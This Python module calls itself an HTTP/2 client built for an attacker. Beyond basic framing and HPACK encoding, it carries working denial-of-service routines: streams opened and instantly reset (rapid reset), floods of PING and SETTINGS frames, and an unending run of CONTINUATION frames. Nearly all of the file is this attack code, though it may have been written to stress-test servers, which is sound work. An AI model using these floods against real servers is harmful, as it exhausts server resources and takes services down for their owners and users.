"""As much of an HTTP/2 client as an attacker needs: requests on many streams at once, and floods of frames."""

import struct

from http1 import connected

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
STREAMS_AT_ONCE = 8
FRAMES_AT_ONCE = 500
# Requests on one connection, after which a new one is opened.
STREAMS_MAX = 2000


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, prefix_bits):
    """An integer of HPACK in the low bits of its first byte."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([value])
    value -= most
    coded = bytearray([most])
    while value >= 128:
        coded.append(value % 128 + 128)
        value //= 128
    return bytes(coded + bytes([value]))


def header(name, value):
    """A literal without indexing, so that no table has to be kept."""
    return b"\0" + b"".join(number(len(text), 7) + text for text in (name.lower().encode(), value.encode()))


def headers_of(request, scheme):
    pseudo = [(":method", request.method), (":scheme", scheme), (":authority", "localhost"), (":path", request.path)]
    named = [tuple(line.split(": ", 1)) for line in request.headers]
    return b"".join(header(name, value) for name, value in pseudo + named)


class Http2:
    """One connection. `ask` makes several requests at once and returns the status and length of each answer."""

    def __init__(self, address, source=None, tls=False):
        self.socket = connected(address, source, "h2", tls)
        self.scheme = "https" if tls else "http"
        self.held = b""
        self.next_stream = 1
        # No table of headers to keep; windows as wide as they can be, as what the server may send is not what is tried here.
        settings = struct.pack(">HIHI", 1, 0, 4, 0x7FFFFFFF)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000)))

    def open(self, request):
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        body = request.body
        sent = frame(HEADERS, END_HEADERS | (0 if body else END_STREAM), stream, headers_of(request, self.scheme))
        return stream, sent + (frame(DATA, END_STREAM, stream, body) if body else b"")

    def ask(self, requests):
        if self.next_stream > 2 * STREAMS_MAX:
            raise ConnectionError("used up")
        opened = [self.open(request) for request in requests]
        self.socket.sendall(b"".join(sent for _, sent in opened))
        waiting = {stream: [0, 0] for stream, _ in opened}
        answered = []
        while waiting:
            kind, flags, stream, payload = self.read()
            if kind == HEADERS and stream in waiting:
                waiting[stream][0] = status_of(payload)
            if kind == DATA and stream in waiting:
                waiting[stream][1] += len(payload)
            if kind in (HEADERS, DATA) and flags & END_STREAM and stream in waiting:
                answered.append(waiting.pop(stream))
            if kind == RST_STREAM and waiting.pop(stream, None):
                answered.append(["reset", 0])
            if kind == GOAWAY:
                raise ConnectionError("told to go away")
        return answered

    def open_and_reset(self, request):
        """Streams that are taken back as soon as they are opened."""
        sent = b""
        for _ in range(FRAMES_AT_ONCE // 5):
            stream, opened = self.open(request)
            sent += opened + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        self.flood(sent)

    def send_frames(self):
        """Frames that ask for an answer and carry nothing."""
        self.flood((frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * (FRAMES_AT_ONCE // 2))

    def continue_for_ever(self, request):
        """Headers that never end."""
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        sent = frame(HEADERS, END_STREAM, stream, headers_of(request, self.scheme))
        more = header("x-more", "m" * 1000)
        self.flood(sent + frame(CONTINUATION, 0, stream, more) * 200)

    def flood(self, sent):
        """Sends, and reads until the server has answered a ping sent behind it."""
        self.socket.sendall(sent + frame(PING, 0, 0, b"the last"))
        while True:
            kind, flags, _, payload = self.read()
            if kind == PING and flags & ACK and payload == b"the last":
                return
            if kind == GOAWAY:
                raise ConnectionError("told to go away")

    def read(self):
        """The next frame; settings are acknowledged and pings answered on the way."""
        while True:
            while len(self.held) < 9:
                self.more()
            length = int.from_bytes(self.held[:3], "big")
            while len(self.held) < 9 + length:
                self.more()
            kind, flags = self.held[3], self.held[4]
            stream = int.from_bytes(self.held[5:9], "big") & 0x7FFFFFFF
            payload, self.held = self.held[9 : 9 + length], self.held[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                self.socket.sendall(frame(SETTINGS, ACK, 0))
                continue
            return kind, flags, stream, payload

    def more(self):
        read = self.socket.recv(65536)
        if not read:
            raise ConnectionError("the server ended the connection")
        self.held += read


# Of HPACK's static table, as the first byte of an answer's headers has them.
INDEXED_STATUSES = {0x88: 200, 0x89: 204, 0x8A: 206, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}


def status_of(block):
    """The status that an answer begins with: indexed, or a literal of three digits, plain or in Huffman's code."""
    while block and block[0] & 0xE0 == 0x20:
        block = block[1:]
    if block[0] in INDEXED_STATUSES:
        return INDEXED_STATUSES[block[0]]
    length = block[1] & 0x7F
    text = block[2 : 2 + length]
    return int(text) if not block[1] & 0x80 else int(digits(text))


def digits(coded):
    """Digits in Huffman's code of HPACK: 0 to 2 have five bits, 3 to 9 have six."""
    bits = "".join(f"{byte:08b}" for byte in coded)
    read = ""
    while len(read) < 3:
        first = int(bits[:5], 2)
        if first <= 2:
            read, bits = read + str(first), bits[5:]
        else:
            # 3 is 011001, and so on.
            read, bits = read + str(int(bits[:6], 2) - 0b011001 + 3), bits[6:]
    return read
